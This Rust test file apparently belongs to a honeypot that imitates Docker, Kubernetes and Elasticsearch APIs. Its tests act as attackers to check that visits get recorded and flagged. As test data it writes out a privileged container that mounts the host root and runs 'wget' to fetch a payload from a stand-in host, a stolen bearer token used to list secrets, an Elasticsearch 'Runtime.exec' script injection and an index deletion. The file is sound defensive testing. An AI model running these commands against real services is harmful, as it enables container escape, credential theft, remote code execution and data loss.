//! The clients that people, and robbers, use with the APIs of Docker, Kubernetes and Elasticsearch.

use crate::support::{Traps, printed, run};
use honeymesh_trap_proto::Definition;
use honeymesh_types::Signs;
use std::{path::Path, process::Output};

fn playing(service: &str) -> Traps {
    Traps::one(&Definition { service: service.into(), ..Definition::default() })
}

/// Runs a few lines of Python with Debian's own modules.
async fn python(script: &str) -> String {
    printed(&run("/usr/bin/python3", &["-c", script]).await)
}

/// A program that is not in every Debian: where there is none, the same is asked by its library for Python alone.
async fn run_if_there(program: &str, arguments: &[&str]) -> Option<Output> {
    let path = std::env::var("PATH").unwrap_or_default();
    if !path.split(':').any(|folder| Path::new(folder).join(program).exists()) {
        eprintln!("SKIPPED: {program} is not installed");
        return None;
    }
    Some(run(program, arguments).await)
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_runs_a_container_tells_what_is_in_it() {
    let mut traps = playing("docker");
    let port = traps.port("docker");
    let said = python(&format!(
        "import docker\nc = docker.APIClient('tcp://127.0.0.1:{port}', version='auto')\nprint(c.version()['Version'], len(c.containers()))\n\
         h = c.create_host_config(privileged=True, binds=['/:/mnt'])\n\
         i = c.create_container('alpine', ['sh', '-c', 'wget http://198.51.100.9/m'], host_config=h)['Id']\nc.start(i)\nprint('runs', i)"
    ))
    .await;
    assert!(said.starts_with("26.1.5+dfsg1 ") && said.contains("runs "), "{said}");
    for program in [true, false] {
        if !program {
            let host = format!("tcp://127.0.0.1:{port}");
            let words =
                ["-H", &host, "run", "-d", "--privileged", "-v", "/:/mnt", "alpine", "sh", "-c", "wget http://198.51.100.9/m"];
            let Some(output) = run_if_there("docker", &words).await else { return };
            assert!(output.status.success(), "{}", printed(&output));
        }
        let visit = traps.visit_where(|visit| visit.fields.contains_key("image")).await;
        let told = ["image", "privileged", "binds"].map(|name| visit.fields[name].as_str());
        assert!(told[0].starts_with("alpine") && told[1] == "true" && told[2].contains("/:/mnt"), "{:?}", visit.fields);
        assert!(visit.fields["command"].contains("wget http://198.51.100.9/m") && visit.signs.contains(Signs::RULE), "{visit:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_asks_a_cluster_gives_his_token_away() {
    let mut traps = playing("kubernetes");
    let server = format!("https://127.0.0.1:{}", traps.port("kubernetes"));
    let said = python(&format!(
        "import kubernetes.client as k, urllib3\nurllib3.disable_warnings()\nc = k.Configuration(host='{server}')\nc.verify_ssl = False\n\
         print(k.VersionApi(k.ApiClient(c)).get_code().git_version)\nc.api_key = {{'authorization': 'Bearer st0len'}}\na = k.ApiClient(c)\n\
         try: k.CoreV1Api(a).list_namespaced_secret('default')\nexcept k.ApiException as e: print(e.status, e.reason)"
    ))
    .await;
    assert!(said.starts_with("v1.") && said.contains("401 Unauthorized"), "{said}");
    let visit = traps.visit_where(|visit| visit.fields.get("path").is_some_and(|path| path.contains("/secrets"))).await;
    assert!(visit.signs.contains(Signs::CREDENTIALS) && visit.fields["password"] == "st0len", "{:?}", visit.fields);
    let words = ["--server", &server, "--insecure-skip-tls-verify", "--token", "st0len", "--kubeconfig=/dev/null", "get", "pods"];
    let Some(output) = run_if_there("kubectl", &words).await else { return };
    assert!(!output.status.success() && printed(&output).contains("You must be logged in to the server"), "{}", printed(&output));
    let visit = traps.visit_where(|visit| visit.fields.get("user_agent").is_some_and(|agent| agent.starts_with("kubectl"))).await;
    assert!(visit.signs.contains(Signs::CREDENTIALS) && visit.fields["password"] == "st0len", "{:?}", visit.fields);
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_searches_tells_his_script_and_whoever_deletes_that() {
    let mut traps = playing("elasticsearch");
    let port = traps.port("elasticsearch");
    let said = python(&format!(
        "import elasticsearch, warnings\nwarnings.simplefilter('ignore')\ne = elasticsearch.Elasticsearch('http://127.0.0.1:{port}')\n\
         print(e.info()['version']['number'])\nnames = [i.split()[2] for i in e.cat.indices().splitlines()]\n\
         try: e.search(body={{'script_fields': {{'x': {{'script': {{'source': \"Runtime.getRuntime().exec('id')\"}}}}}}}})\n\
         except elasticsearch.ElasticsearchException as x: print('refused')\nprint(e.indices.delete(index=names[0]))"
    ))
    .await;
    assert!(said.starts_with("8.") && said.contains("'acknowledged': True"), "{said}");
    let script = traps.visit_where(|visit| visit.fields.contains_key("script")).await;
    assert_eq!((script.fields["script"].as_str(), script.signs), ("Runtime.getRuntime().exec('id')", Signs::RULE));
    let deleted = traps.visit_where(|visit| visit.payload.starts_with(b"DELETE /")).await;
    assert!(deleted.signs.contains(Signs::RULE), "{deleted:?}");
}
